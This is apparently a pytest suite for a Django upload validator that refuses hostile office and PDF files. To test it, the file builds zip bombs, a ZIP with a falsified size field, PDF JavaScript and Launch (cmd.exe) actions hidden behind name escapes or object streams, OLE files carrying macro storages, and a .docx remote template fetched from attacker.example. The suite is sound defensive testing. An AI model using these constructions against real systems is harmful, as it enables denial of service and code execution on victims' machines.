"""Hostile files are refused before anything opens them: zip bombs (xlsx, docx whose members expand hugely or whose
sheet declares an enormous area), PDF actions hidden behind name escapes or in object streams, .xls/.doc macro
projects, .docx remote templates — at every entry point: attachments, person import, award book, plan .docx."""

import io
import re
import struct
import zipfile
import zlib

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from thidua.core.uploads import ATTACHMENT, EVIDENCE, check_archive, check_upload

CONTENT_TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def _zip(members: dict) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def xlsx_bomb() -> bytes:
    """A few kilobytes that expand to 40 MB of shared strings."""
    return _zip({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": "<workbook/>",
                 "xl/sharedStrings.xml": b"<sst>" + b"<si><t>A</t></si>" * 2_500_000 + b"</sst>"})


def xlsx_area_bomb() -> bytes:
    """Two cells, A1 and XFD1048576: tiny, but a dense reader would allocate 17 billion cells."""
    sheet = ('<worksheet><dimension ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="n"><v>1</v></c></row>'
             '<row r="1048576"><c r="XFD1048576" t="n"><v>2</v></c></row></sheetData></worksheet>')
    return _zip({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": "<workbook/>",
                 "xl/worksheets/sheet1.xml": sheet})


def docx_bomb() -> bytes:
    return _zip({"[Content_Types].xml": CONTENT_TYPES,
                 "word/document.xml": b"<w:document><w:body>" + b" " * 60_000_000 + b"</w:body></w:document>"})


def test_bombs_are_small_files():
    for data in (xlsx_bomb(), xlsx_area_bomb(), docx_bomb()):
        assert len(data) < 300_000


@pytest.mark.parametrize("name, make", [("bom.xlsx", xlsx_bomb), ("vung.xlsx", xlsx_area_bomb),
                                        ("bom.docx", docx_bomb)])
def test_check_archive_refuses_bombs(name, make):
    with pytest.raises(ValidationError, match="bom nén"):
        check_archive(io.BytesIO(make()), name)


def test_total_size_limit_counts_real_bytes_not_headers(settings):
    settings.THIDUA_ARCHIVE_MAX_BYTES = 1_000_000
    data = _zip({"a.xml": b"x" * 600_000, "b.xml": b"y" * 600_000})
    with pytest.raises(ValidationError):
        check_archive(io.BytesIO(data), "hai.xlsx")
    # Lie in the central directory: declare 10 bytes for a 600 kB member.
    lying = bytearray(_zip({"[Content_Types].xml": CONTENT_TYPES, "a.xml": b"x" * 600_000}))
    cd = lying.rfind(b"PK\x01\x02")
    struct.pack_into("<I", lying, cd + 24, 10)
    with pytest.raises(ValidationError):
        check_archive(io.BytesIO(bytes(lying)), "noi-doi.xlsx")


def test_an_ordinary_workbook_passes():
    from openpyxl import Workbook

    wb = Workbook()
    for i in range(2000):
        wb.active.append([i, f"Nguyễn Văn {i}", "Sở Nội vụ", 2024])
    out = io.BytesIO()
    wb.save(out)
    check_archive(out, "so.xlsx")
    assert out.tell() == 0


@pytest.mark.parametrize("name, make, kinds", [("bom.xlsx", xlsx_bomb, EVIDENCE), ("bom.docx", docx_bomb, ATTACHMENT)])
def test_attachments_refuse_bombs(name, make, kinds):
    with pytest.raises(ValidationError, match="bom nén"):
        check_upload(SimpleUploadedFile(name, make()), kinds)


def test_person_import_refuses_bombs():
    from thidua.orgs.imports import PERSON_COLUMNS, FileError, read_sheet

    for make in (xlsx_bomb, xlsx_area_bomb):
        with pytest.raises(FileError, match="bom nén"):
            read_sheet(SimpleUploadedFile("nguoi.xlsx", make()), PERSON_COLUMNS)


def test_plan_docx_import_refuses_bombs():
    from thidua.plans.importer import DocxImportError, parse_docx

    with pytest.raises(DocxImportError, match="bom nén"):
        parse_docx(io.BytesIO(docx_bomb()))


def test_award_book_refuses_bombs(unit_a, officer_a):
    from tests.awards.books import make_batch
    from thidua.awards.importer import stage
    from thidua.awards.models import ImportBatch

    # The award book is read as a stream (core/xlsx_stream): a declared area of 17 billion cells is never
    # allocated; the file is refused all the same, as a bomb or as a sheet that cannot be read.
    batch = stage(make_batch(unit_a, officer_a, xlsx_area_bomb()))
    assert batch.status == ImportBatch.Status.INVALID
    assert "bom nén" in batch.message or batch.message.startswith("Không đọc được tệp bảng tính")
    assert not batch.rows.exists()


# --- PDF ---------------------------------------------------------------------------------------------------------

def _pdf(body: bytes) -> bytes:
    return b"%PDF-1.7\n" + body + b"\ntrailer << /Root 1 0 R >>\n%%EOF"


@pytest.mark.parametrize("body", [
    b"1 0 obj << /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> >> endobj",
    b"1 0 obj << /Type /Action /S /#4Aava#53cript >> endobj",
    b"1 0 obj << /AA << /O 2 0 R >> >> endobj",
    b"1 0 obj << /OpenAction 5 0 R >> endobj",
    b"1 0 obj << /Type /Action /S /#4C#61unch /F (cmd.exe) >> endobj",
    b"1 0 obj << /Names << /#45mbedded#46iles 3 0 R >> >> endobj",
])
def test_pdf_actions_behind_escapes_are_refused(body):
    with pytest.raises(ValidationError, match="mã thực thi"):
        check_upload(SimpleUploadedFile("to-trinh.pdf", _pdf(body)), ATTACHMENT)


def test_pdf_action_inside_a_compressed_object_stream_is_refused():
    objects = zlib.compress(b"2 0 << /Type /Action /S /JavaScript /JS (app.alert(1)) >>")
    body = (b"5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(objects)
            + objects + b"\nendstream endobj")
    with pytest.raises(ValidationError, match="mã thực thi"):
        check_upload(SimpleUploadedFile("an.pdf", _pdf(body)), ATTACHMENT)


def test_ordinary_pdf_passes_even_with_a_destination_open_action_and_binary_streams():
    image = bytes(range(256)) * 40 + b"/JS /AA"  # stream bodies are data, not names
    body = (b"1 0 obj << /Type /Catalog /OpenAction [3 0 R /Fit] >> endobj\n"
            b"4 0 obj << /Length %d >>\nstream\n" % len(image) + image + b"\nendstream endobj")
    assert check_upload(SimpleUploadedFile("thuong.pdf", _pdf(body)), ATTACHMENT).content_type == "application/pdf"


# --- Office 97-2003 macros, .docx remote templates ---------------------------------------------------------------

def _ole_with_entry(name: str) -> bytes:
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * (512 - 8)
    entry = name.encode("utf-16-le").ljust(64, b"\x00") + struct.pack("<H", 2 * (len(name) + 1)) + b"\x01" * 62
    root = "Root Entry".encode("utf-16-le").ljust(64, b"\x00") + struct.pack("<H", 22) + b"\x05" * 62
    return header + root + entry + b"\x00" * 256


@pytest.mark.parametrize("name, storage", [("bang.xls", "_VBA_PROJECT_CUR"), ("van-ban.doc", "Macros")])
def test_legacy_office_macro_projects_are_refused(name, storage):
    with pytest.raises(ValidationError, match="macro"):
        check_upload(SimpleUploadedFile(name, _ole_with_entry(storage)), EVIDENCE)
    assert check_upload(SimpleUploadedFile(name, _ole_with_entry("Workbook")), EVIDENCE)


def test_docx_with_a_remote_template_is_refused():
    rels = ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            'attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>')
    data = _zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "<w:document/>",
                 "word/_rels/settings.xml.rels": rels})
    with pytest.raises(ValidationError, match=re.escape("tham chiếu mẫu")):
        check_upload(SimpleUploadedFile("mau.docx", data), ATTACHMENT)
    # An ordinary external hyperlink is fine.
    link = rels.replace("attachedTemplate", "hyperlink")
    data = _zip({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": "<w:document/>",
                 "word/_rels/document.xml.rels": link})
    assert check_upload(SimpleUploadedFile("lien-ket.docx", data), ATTACHMENT)


def test_proposal_lists_refuse_bombs():
    from thidua.core.tabular import TableFileError, read_sheets

    for name, make in (("ds.xlsx", xlsx_area_bomb), ("ds.docx", docx_bomb)):
        with pytest.raises(TableFileError, match="bom nén"):
            read_sheets(make(), name)
